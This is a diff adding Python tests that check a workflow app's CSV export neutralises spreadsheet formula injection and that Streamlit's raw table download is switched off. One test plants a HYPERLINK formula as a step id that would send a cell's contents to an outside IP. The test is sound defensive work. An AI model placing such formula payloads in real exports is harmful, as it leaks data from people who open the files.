@@ -51,3 +51,46 @@ def test_a_workflow_s_review_figures_show_per_prompt_version_with_a_csv(service:
         ("version 2 (1 review)", 100.0),
     ]
     assert [c for c in at.get("arrow_vega_lite_chart")] or [c for c in at.get("vega_lite_chart")]  # drawn
+
+
+def test_a_step_id_that_looks_like_a_formula_is_inert_in_the_csv(service: Loopdesk) -> None:
+    """The attack: an AI step id `=HYPERLINK(...)` became a live cell in Insights → Download as CSV."""
+    own = service.use_template("marketing-social-post", "dana").definition
+    evil = '=HYPERLINK("http://203.0.113.9/?leak="&A1,"Open")'
+    renamed = own.model_copy(
+        update={
+            "nodes": [n.model_copy(update={"id": evil}) if n.id == "draft" else n for n in own.nodes],
+            "edges": [
+                e.model_copy(update={"source": evil if e.source == "draft" else e.source,
+                                     "target": evil if e.target == "draft" else e.target})
+                for e in own.edges
+            ],
+        }
+    )  # fmt: skip
+    service.save_workflow(renamed, "dana")
+    decide(service, waiting(service, own.id), Approve())
+    (report,) = service.review_report("dana", own.id)
+    text = csv_text(report)
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [r["ai_step"] for r in rows] == ["'" + evil]  # a leading ' : shown as text, never run
+    for cell in (c for r in csv.reader(io.StringIO(text)) for c in r):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_every_formula_start_is_neutralised() -> None:
+    from engine.csv_export import csv_text as export_csv
+
+    rows = [{"a": "=1+1", "b": "+SUM(A1)", "c": "-2+3", "d": "@cmd", "e": "\tx", "f": "\rx", "g": -2.5}]
+    out = list(csv.DictReader(io.StringIO(export_csv(rows))))
+    assert out == [{"a": "'=1+1", "b": "'+SUM(A1)", "c": "'-2+3", "d": "'@cmd", "e": "'\tx", "f": "'\rx",
+                    "g": "-2.5"}]  # fmt: skip
+
+
+def test_tables_offer_no_unsafe_csv_download_of_their_own() -> None:
+    """Tables show text anyone may type (run titles, step names); Streamlit's built-in table download
+    would export it raw, so it is off and the app's own CSV downloads (neutralised) are the way."""
+    import tomllib
+    from pathlib import Path
+
+    config = tomllib.loads((Path(__file__).resolve().parents[2] / ".streamlit" / "config.toml").read_text())
+    assert config["client"]["disableDataExport"] is True
